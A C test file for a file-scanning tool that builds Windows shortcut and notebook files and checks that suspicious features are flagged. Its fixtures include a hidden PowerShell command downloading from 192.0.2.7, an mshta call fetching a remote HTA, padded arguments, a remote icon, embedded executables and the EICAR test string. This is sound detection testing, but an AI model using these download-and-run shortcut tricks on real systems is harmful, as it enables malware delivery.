/* Shell links, notebooks, installers' names: bytes made here, field by field as the specifications have them. */
#include "lab/cfb.h"
#include "lab/look.h"
#include "tap.h"

static struct arena *a;

static void wide(struct buf *b, const char *text)
{
	for (size_t i = 0; i < strlen(text); i++) {
		buf_char(b, text[i]);
		buf_char(b, '\0');
	}
}

static void le16(struct buf *b, size_t v)
{
	buf_char(b, (char)(v & 255));
	buf_char(b, (char)(v >> 8 & 255));
}

static void string(struct buf *b, const char *text, bool is_wide)
{
	if (text == NULL)
		return;
	le16(b, strlen(text));
	if (is_wide)
		wide(b, text);
	else
		buf_cstr(b, text);
}

struct link_row {
	const char *label, *target, *arguments, *icon;
	bool wide, items; /* target in a list of items instead of LinkInfo */
	const char *behind;
	const char *feature;
	enum lab_verdict verdict;
};

static void put_items(struct buf *b, const char *target)
{
	size_t n = strlen(target) - 3;

	le16(b, 2 + 20 + 25 + 14 + n + 1 + 2 - 2);
	le16(b, 20);
	buf_put(b, "\x1f\x50\xe0\x4f\xd0\x20\xea\x3a\x69\x10\xa2\xd8\x08\x00\x2b\x30\x30\x9d", 18);
	le16(b, 25);
	buf_put(b, "\x2f" "C:\\\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", 23);
	le16(b, 14 + n + 1);
	buf_put(b, "\x32\0\0\0\0\0\0\0\0\0\0\0", 12);
	buf_put(b, target + 3, n + 1);
	le16(b, 0);
}

static void put_info(struct buf *b, const char *target)
{
	size_t n = strlen(target) + 1;

	buf_le32(b, (uint32_t)(0x1c + 1 + n));
	buf_le32(b, 0x1c);
	buf_le32(b, 1);
	buf_le32(b, 0);
	buf_le32(b, 0x1c);
	buf_le32(b, 0);
	buf_le32(b, (uint32_t)(0x1c + n));
	buf_put(b, target, n);
	buf_char(b, '\0');
}

static struct buf make_link(const struct link_row *r)
{
	struct buf b;
	uint32_t flags = (r->items ? 1u : 2u) | (r->arguments != NULL ? 0x20u : 0) | (r->icon != NULL ? 0x40u : 0) | (r->wide ? 0x80u : 0);

	buf_init(&b, 65536);
	buf_put(&b, "L\0\0\0\x01\x14\x02\0\0\0\0\0\xc0\0\0\0\0\0\0\x46", 20);
	buf_le32(&b, flags);
	while (b.n < 0x4c)
		buf_char(&b, '\0');
	if (r->items)
		put_items(&b, r->target);
	else
		put_info(&b, r->target);
	string(&b, r->arguments, r->wide);
	string(&b, r->icon, r->wide);
	buf_le32(&b, 0x60); /* TrackerDataBlock */
	buf_le32(&b, 0xa0000003u);
	buf_le32(&b, 0x58);
	buf_le32(&b, 0);
	buf_put(&b, "desk-41\0\0\0\0\0\0\0\0\0", 16);
	for (int i = 0; i < 64; i++)
		buf_char(&b, '\0');
	buf_le32(&b, 0);
	if (r->behind != NULL)
		buf_cstr(&b, r->behind);
	return b;
}

static void links(void)
{
	static char padded[200];
	static const struct link_row rows[] = {
		{ "to a document", "C:\\Users\\a\\plan.docx", NULL, NULL, true, false, NULL, NULL, LAB_V_NO_FINDING },
		{ "to a shell with a script", "C:\\Windows\\cmd.exe", "/k vcvars64.bat", NULL, true, false, NULL, "lnk.interpreter", LAB_V_NO_FINDING },
		{ "to a shell that fetches", "C:\\Windows\\System32\\cmd.exe", "/c powershell -w hidden iwr http://192.0.2.7/a -OutFile b", NULL, true, false, NULL,
		  "lnk.starts-interpreter", LAB_V_SUSPICIOUS },
		{ "one byte a letter, target in items", "C:\\mshta.exe", "http://192.0.2.7/x.hta", NULL, false, true, NULL, "lnk.starts-interpreter", LAB_V_SUSPICIOUS },
		{ "blanks before the rest", "C:\\a.exe", padded, NULL, true, false, NULL, "lnk.padded-arguments", LAB_V_SUSPICIOUS },
		{ "a picture from the web", "C:\\a.exe", NULL, "http://192.0.2.7/i.ico", true, false, NULL, "lnk.icon-elsewhere", LAB_V_SUSPICIOUS },
		{ "a picture from a share", "C:\\a.exe", NULL, "\\\\files\\icons\\a.ico", true, false, NULL, "lnk.icon-elsewhere", LAB_V_NO_FINDING },
		{ "with something behind", "C:\\a.exe", NULL, NULL, true, true, "MZ the second part", "lnk.overlay", LAB_V_SUSPICIOUS },
	};

	memset(padded, ' ', sizeof padded - 3);
	memcpy(padded + sizeof padded - 4, "/x", 2);
	for (size_t i = 0; i < COUNTOF(rows); i++) {
		const struct link_row *r = &rows[i];
		struct buf b = make_link(r);
		struct lab_report rep;
		bool good = look_at(buf_view(&b), S(""), a, &rep);

		OK(good && lab_verdict_of(&rep) == r->verdict, "a link %s: %s", r->label, good ? lab_verdict_name(lab_verdict_of(&rep)) : "no report");
		OK(r->feature == NULL ? rep.matches.n == 0 : rep.matches.n == 1 && look_match(&rep, r->feature) != NULL, "a link %s: %zu matches", r->label, rep.matches.n);
		OK(look_fact(&rep, "lnk.target", str_of(r->target)), "a link %s: its target", r->label);
		OK(r->arguments == NULL || look_fact(&rep, "lnk.arguments", str_of(r->arguments)), "a link %s: its arguments", r->label);
		OK(r->icon == NULL || look_fact(&rep, "lnk.icon", str_of(r->icon)), "a link %s: its picture", r->label);
		OK(look_fact(&rep, "lnk.machine", S("desk-41")), "a link %s: its machine", r->label);
		OK(look_child(&rep, "overlay") == (r->behind != NULL), "a link %s: what is behind it", r->label);
		OK(rep.bytes_seen == rep.bytes_total && rep.unseen.n == 0, "a link %s: all seen", r->label);
		buf_done(&b);
	}
}

/* Cut anywhere, a link stays a link and nothing of it is lost. */
static void cut_links(void)
{
	static const struct link_row row = { "whole", "C:\\cmd.exe", "/c echo", "a.ico", true, true, NULL, NULL, LAB_V_NO_FINDING };
	struct buf b = make_link(&row);
	size_t odd = 0;

	for (size_t n = 0x4c; n < b.n; n++) {
		struct lab_report r;

		odd += !look_at(str_slice(buf_view(&b), 0, n), S(""), a, &r) || r.bytes_seen != r.bytes_total || r.bytes_total < n;
	}
	OK(odd == 0, "cut at any byte, all is seen (%zu not)", odd);
	buf_done(&b);
}

static void put_file(struct buf *b, struct str bytes, uint64_t stated)
{
	buf_put(b, "\xe7\x16\xe3\xbd\x65\x26\x11\x45\xa4\xc4\x8d\x4d\x0b\x7a\x9e\xac", 16);
	buf_le64(b, stated);
	buf_put(b, "\0\0\0\0\0\0\0\0\0\0\0\0", 12);
	buf_str(b, bytes);
	while (b->n % 8 != 0)
		buf_char(b, '\0');
	buf_put(b, "\x22\xa7\xfb\x71\x79\x0f\x0b\x4a\xbb\x13\x89\x92\x56\x42\x6b\x24", 16);
}

static void notebooks(void)
{
	static const struct { const char *label; struct str file; uint64_t more; const char *feature; enum lab_verdict verdict; } rows[] = {
		{ "a picture", S("\x89PNG\r\n\x1a\n rest"), 0, NULL, LAB_V_NO_FINDING },
		{ "a script", S("@echo off\r\nstart x\r\n"), 0, "onenote.program", LAB_V_SUSPICIOUS },
		{ "a program", S("MZ\x90\0 program"), 0, "onenote.program", LAB_V_SUSPICIOUS },
		{ "an application of HTML", S("<html><head><hta:application></head></html>"), 0, "onenote.program", LAB_V_SUSPICIOUS },
		{ "a file with too great a length", S("plain text of a file"), 100000, "onenote.damaged", LAB_V_NO_FINDING },
		{ "the test file", S("X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-" "ANTIVIRUS-TEST-FILE!$H+H*"), 0, "EICAR-Test-File", LAB_V_MALICIOUS },
	};

	for (size_t i = 0; i < COUNTOF(rows); i++) {
		struct buf b;
		struct lab_report r;
		bool good;

		buf_init(&b, 65536);
		buf_put(&b, "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3", 16);
		buf_cstr(&b, "a page's words");
		put_file(&b, rows[i].file, rows[i].file.n + rows[i].more);
		buf_cstr(&b, "more of the page");
		good = look_at(buf_view(&b), S(""), a, &r);
		OK(good && lab_verdict_of(&r) == rows[i].verdict, "a page with %s: %s", rows[i].label, good ? lab_verdict_name(lab_verdict_of(&r)) : "no report");
		OK(rows[i].feature == NULL ? r.matches.n == 0 : look_match(&r, rows[i].feature) != NULL, "a page with %s: %zu matches", rows[i].label, r.matches.n);
		OK(look_fact(&r, "onenote.files", S("1")), "a page with %s: one file", rows[i].label);
		OK(r.bytes_seen == r.bytes_total && r.unseen.n == 0, "a page with %s: all seen", rows[i].label);
		buf_done(&b);
	}
}

static void installers(void)
{
	static const struct { const char *packed, *name; bool coded; } rows[] = {
		{ "\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824", "!_StringData", true },
		{ "\u4840\u3f7f\u4164\u422f\u4836", "!_Tables", true },
		{ "\u430b\u4131\u4735\u47fe\u482b", "Binary._h", true },
		{ "\5SummaryInformation", "\5SummaryInformation", false },
		{ "", "", false },
	};

	for (size_t i = 0; i < COUNTOF(rows); i++) {
		struct buf b;
		bool coded;

		buf_init(&b, 256);
		coded = cfb_msi_name(str_of(rows[i].packed), &b);
		OK(coded == rows[i].coded && str_eq(buf_view(&b), str_of(rows[i].name)), "a name in a package: %.*s", STR(buf_view(&b)));
		buf_done(&b);
	}
}

int main(void)
{
	a = arena_new((size_t)256 << 20);
	links();
	cut_links();
	notebooks();
	installers();
	arena_free(a);
	return tap_done();
}
